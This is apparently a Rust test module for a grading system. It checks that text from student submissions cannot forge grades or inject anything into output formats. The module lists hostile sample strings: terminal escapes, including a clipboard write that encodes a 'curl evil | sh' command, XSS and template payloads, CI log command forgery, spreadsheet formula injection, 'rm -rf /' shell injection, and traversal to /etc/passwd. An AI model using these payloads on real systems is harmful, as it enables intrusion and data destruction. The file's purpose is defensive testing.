//! Every byte that comes from a submission is harmless on every way out of the program: the same strings are fed through
//! each of them. The ways are not chosen here but counted: formats by their lists, commands by the grammar of the command
//! line, and everything else by where the source writes anything at all (`sources`). A new one fails until it is told
//! here what it is.

#[path = "../common/class.rs"]
mod classes;
#[path = "../common/mod.rs"]
mod common;
mod formats;
#[path = "../hostile/mod.rs"]
#[allow(dead_code, reason = "each test program uses a part of it")]
mod hostile;
mod program;
mod readers;
mod sources;

use serde_json::Value;

/// What a student may put into a status, a header, an error, a name or a log.
pub const STRINGS: [&str; 24] = [
    "\u{1b}[2K\r\u{1b}[1A[1/1] a · 20",
    "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}",
    "\u{1b}]0;title\u{7}\u{1b}[2J\u{1b}[45m\u{1b}[8m",
    "\u{9b}31m\u{9d}0;title\u{9c}\u{7f}\u{8}\u{8}",
    "\u{202e}eslaf\u{202c}\u{2066}x\u{2069}\u{200f}",
    "\u{200b}\u{ad}\u{feff}\u{e0041}\u{3164}x",
    "x\nFORGED:20/20",
    "x\r\nFORGED:20/20",
    "x\u{2028}FORGED\u{2029}FORGED\u{85}FORGED\u{b}\u{c}",
    "| a | b |\n|---|---|\n|FAKED|",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\" onclick=\"alert(3)' onclick='alert(4)",
    "]]><FAKED/>&FAKED;&#27;",
    "</pre></textarea></title><!-- {{7*7}} {% x %}",
    "`<u>` ``` ~~~ **x** [x](javascript:alert(5)) ![x](//evil.example) @everyone",
    "\n::error::FORGED\n::add-mask::FORGED\n##[error]FORGED",
    "%0A::add-mask::FAKED%0D%0A::error::FAKED",
    "=cmd|' /C calc'!A0",
    "a;=1+1;\t@SUM(A1)",
    "\t=1+1\u{0}",
    "\nok 99 - FAKED # SKIP\nBail out! FAKED\n...\n---",
    "\nGrade :=>> 20\nComment :=>> FAKED\n--|>\n<|--",
    "$(id) `id` ; rm -rf / \\\" \\",
    "../../etc/passwd\u{0}//evil.example/javascript:alert(6)",
];

/// The same data with this text wherever there is one, but for what is kept under these names.
pub fn poisoned(value: &Value, text: &str, kept: &[&str]) -> Value {
    match value {
        // A verdict is one of a few words: no other is read at all.
        Value::String(word) if ["pass", "fail", "unknown", "blocked"].contains(&&**word) => value.clone(),
        Value::String(_) => text.into(),
        Value::Array(parts) => parts.iter().map(|part| poisoned(part, text, kept)).collect(),
        Value::Object(parts) => {
            let part = |(name, part): (&String, &Value)| {
                let part = if kept.contains(&&**name) { part.clone() } else { poisoned(part, text, kept) };
                (name.clone(), part)
            };
            Value::Object(parts.iter().map(part).collect())
        }
        other => other.clone(),
    }
}
